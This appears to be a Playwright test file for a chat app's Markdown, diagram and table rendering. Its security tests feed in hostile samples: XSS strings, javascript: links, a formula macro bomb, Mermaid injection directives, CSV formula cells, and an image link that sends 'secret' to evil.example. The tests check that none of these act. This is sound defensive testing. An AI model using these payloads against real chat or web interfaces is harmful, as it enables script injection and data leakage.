"""Markdown as people see it, and what hostile Markdown cannot do, in Chromium."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.e2e.axe import sideways, violations
from tests.e2e.site import Site
from tests.watched_page import PHONE, WIDE, Tabs, Visit, Watched

pytestmark = pytest.mark.browser


def shown(works: Site, tabs: Tabs, visit: Visit | None = None) -> Watched:
    seen = tabs.open(works.url, visit)
    seen.say("markdown")
    expect(seen.page.locator(".diagram img")).to_be_visible()
    seen.done()
    return seen


def block(page: Page, name: str) -> Locator:
    return page.locator("figure").filter(has=page.locator(".code-name", has_text=name))


def echoed(works: Site, tabs: Tabs, text: str, visit: Visit | None = None) -> Watched:
    """Let the app send a text as it is."""
    seen = tabs.open(works.url, visit)
    seen.say(text)
    expect(seen.page.locator(".step .ai-message .message-content")).to_be_visible()
    seen.done()
    return seen


def test_a_diagram_is_drawn_apart_from_the_page_and_its_code_is_a_click_away(works: Site, tabs: Tabs) -> None:
    seen = shown(works, tabs)
    figure = block(seen.page, "Mermaid").first
    picture = figure.locator(".diagram img")
    assert picture.evaluate("(image) => image.complete && image.naturalWidth > 100")
    assert picture.get_attribute("src", timeout=1000) is not None
    before = picture.bounding_box()
    figure.get_by_role("button", name="Zoom in").click()
    after = picture.bounding_box()
    assert before is not None
    assert after is not None
    assert after["width"] > before["width"]
    figure.get_by_role("button", name="Code", exact=True).click()
    expect(figure.locator("code.language-mermaid")).to_contain_text("A[Spring] --> B{Lake?}")
    # Nothing of the drawing is in the page: neither its elements nor their ids.
    assert seen.page.locator("svg[aria-roledescription]").count() == 0


def test_a_drawing_is_saved_as_a_file_that_stands_alone(works: Site, tabs: Tabs) -> None:
    seen = shown(works, tabs)
    with seen.page.expect_download() as saving:
        block(seen.page, "Mermaid").first.get_by_role("button", name="Download code").click()
    assert saving.value.suggested_filename == "diagram.svg"
    text = saving.value.path().read_text("utf-8")
    assert text.startswith("<svg")
    assert "Spring" in text
    assert "<script" not in text


def test_a_diagram_that_is_wrong_says_where_and_shows_its_code(works: Site, tabs: Tabs) -> None:
    figure = block(shown(works, tabs).page, "Mermaid").nth(1)
    expect(figure.locator(".diagram-failure")).to_contain_text("This diagram could not be drawn")
    expect(figure.locator(".diagram-failure")).to_contain_text("Parse error")
    expect(figure.locator("code")).to_contain_text("A[[ never closed")


def test_a_diagram_follows_the_theme(works: Site, tabs: Tabs) -> None:
    seen = shown(works, tabs)
    picture = seen.page.locator(".diagram img")
    light = picture.get_attribute("src")
    seen.page.evaluate("document.documentElement.classList.replace('light', 'dark')")
    expect(picture).not_to_have_attribute("src", light or "")


def test_a_table_sorts_and_an_alert_has_its_title(works: Site, tabs: Tabs) -> None:
    seen = shown(works, tabs)
    expect(seen.page.get_by_role("note")).to_contain_text("Warning")
    seen.page.get_by_role("button", name="Sort by km").click()
    cells = seen.page.locator(".markdown-table tbody td:nth-child(2)")
    assert cells.all_inner_texts() == ["8.2", "163", "245", "361", "604"]


@pytest.mark.parametrize("dark", [False, True])
@pytest.mark.parametrize("size", [WIDE, PHONE])
def test_diagrams_and_previews_keep_nobody_out(works: Site, tabs: Tabs, size: tuple[int, int], dark: bool) -> None:
    seen = shown(works, tabs, Visit(size=size, dark=dark, bypass_csp=True))
    block(seen.page, "SVG").get_by_role("button", name="Preview").click()
    expect(seen.page.locator(".preview-picture img")).to_be_visible()
    assert violations(seen.page) == []
    assert sideways(seen.page) <= 0


def test_a_selected_part_of_an_answer_is_quoted_after_the_draft(works: Site, tabs: Tabs) -> None:
    seen = echoed(works, tabs, "Rivers **flow** to the sea.")
    seen.page.locator("#chat-input").fill("I read:")
    seen.page.locator('.ai-message [role="article"]').click(click_count=3)
    seen.page.get_by_role("button", name="Quote").click()
    expect(seen.page.locator("#chat-input")).to_have_value("I read:\n\n> Rivers flow to the sea.\n\n")
    expect(seen.page.locator("#chat-input")).to_be_focused()
    expect(seen.page.get_by_role("button", name="Quote")).to_have_count(0)


# What hostile text cannot do


def test_sec_E01_html_of_messages_is_text(works: Site, tabs: Tabs) -> None:
    seen = echoed(works, tabs, "<img src=x onerror=alert(1)><b id=planted>bold</b>")
    assert seen.page.locator("#planted").count() == 0
    expect(seen.page.locator(".ai-message .message-content")).to_contain_text("<b id=planted>")


def test_sec_E02_addresses_that_act_are_no_links(works: Site, tabs: Tabs) -> None:
    hostile = (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#x0A;script:alert(1)",
        "vbscript:x",
        "data:text/html,<script>alert(1)</script>",
    )
    text = " ".join(f"[link {number}](<{address}>)" for number, address in enumerate(hostile))
    seen = echoed(works, tabs, f"{text} [good](https://example.org)")
    links = seen.page.locator(".ai-message .message-content a")
    expect(links).to_have_count(1)
    expect(links).to_have_attribute("rel", "noopener noreferrer")


def test_sec_E03_links_open_without_a_way_back(works: Site, tabs: Tabs) -> None:
    seen = echoed(works, tabs, "<https://example.org> and [mail](mailto:ada@example.org)")
    for link in seen.page.locator(".ai-message .message-content a").all():
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert link.get_attribute("target") == "_blank"


def test_sec_E05_formulas_neither_link_nor_explode(works: Site, tabs: Tabs) -> None:
    bomb = r"$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\d$"
    text = rf"$\href{{javascript:alert(1)}}{{x}}$ {bomb} $\includegraphics{{https://evil.example/x.png}}$ $x^2$"
    seen = echoed(works, tabs, text)
    expect(seen.page.locator(".ai-message .katex").last).to_be_visible()
    assert seen.page.locator(".ai-message .message-content a, .ai-message .message-content img").count() == 0
    assert seen.hosts <= {f"localhost:{works.port}"}


def test_sec_E06_a_diagram_neither_acts_nor_reaches_out(works: Site, tabs: Tabs) -> None:
    source = "\n".join(
        [
            "```mermaid",
            '%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "*{fill:url(//evil.example)}"}}%%',
            "flowchart LR",
            '  A["<img src=https://evil.example/a.png onerror=parent.planted=1>words"] --> B',
            '  click A "javascript:parent.planted=1" "tip"',
            "  click B call alert(1)",
            "```",
        ]
    )
    # The policy of the frame speaks up when it holds something back.
    visit = Visit(expected=("Content Security Policy", "evil.example"))
    seen = echoed(works, tabs, source, visit)
    expect(seen.page.locator(".ai-message :is(.diagram img, .diagram-failure)").first).to_be_visible()
    assert seen.page.evaluate("window.planted") is None
    assert seen.hosts <= {f"localhost:{works.port}"}
    assert seen.page.locator(".ai-message .message-content a").count() == 0


def test_sec_E06_a_preview_runs_nothing_and_fetches_nothing(works: Site, tabs: Tabs) -> None:
    seen = shown(works, tabs, Visit(expected=("Blocked script execution", "sandbox")))
    block(seen.page, "HTML").get_by_role("button", name="Preview").click()
    frame = seen.page.frame_locator(".preview-page iframe")
    expect(frame.locator("#words")).to_have_text("Some words")
    assert frame.get_by_text("out").get_attribute("href") is None
    assert seen.page.locator(".preview-page iframe").get_attribute("sandbox") == ""
    assert seen.hosts <= {f"localhost:{works.port}"}


def test_sec_E07_code_of_five_megabytes_stays_plain(works: Site, tabs: Tabs) -> None:
    code = "\n".join("((((a+)+)+)+)+b" * 8 for _ in range(2_000))
    seen = echoed(works, tabs, f"```python\n{code}\n```")
    expect(seen.page.locator(".ai-message").get_by_role("button", name="Show all 2000 lines")).to_be_visible()
    assert seen.page.locator(".hljs-number").count() == 0


def test_sec_E09_pictures_of_other_hosts_wait_for_a_click(works: Site, tabs: Tabs) -> None:
    seen = echoed(works, tabs, "![secret](https://evil.example/x.png?words=secret)")
    expect(seen.page.locator(".ai-message").get_by_role("button", name="Show image from evil.example")).to_be_visible()
    assert seen.hosts <= {f"localhost:{works.port}"}


def test_sec_E16_cells_that_calculate_are_neutral_in_files(works: Site, tabs: Tabs) -> None:
    seen = echoed(works, tabs, "| a | b |\n|---|---|\n| =1+1 | @x |\n| -cmd | -5 |")
    seen.page.locator(".ai-message .markdown-table").hover()
    with seen.page.expect_download() as saving:
        seen.page.locator(".ai-message").get_by_role("button", name="Download", exact=True).click()
    assert saving.value.path().read_text("utf-8").splitlines()[1:] == ["'=1+1,'@x", "'-cmd,-5"]


def test_sec_E18_letters_that_turn_around_stay_in_their_field(works: Site, tabs: Tabs) -> None:
    seen = echoed(works, tabs, "abc \u202edef\u202c " + "a" + "\u0301" * 300 + " " + "\u200b" * 300)
    paragraph = seen.page.locator('.ai-message [role="article"]').first
    assert json.loads(paragraph.evaluate("(node) => JSON.stringify(node.dir)")) == "auto"
    assert sideways(seen.page) <= 0
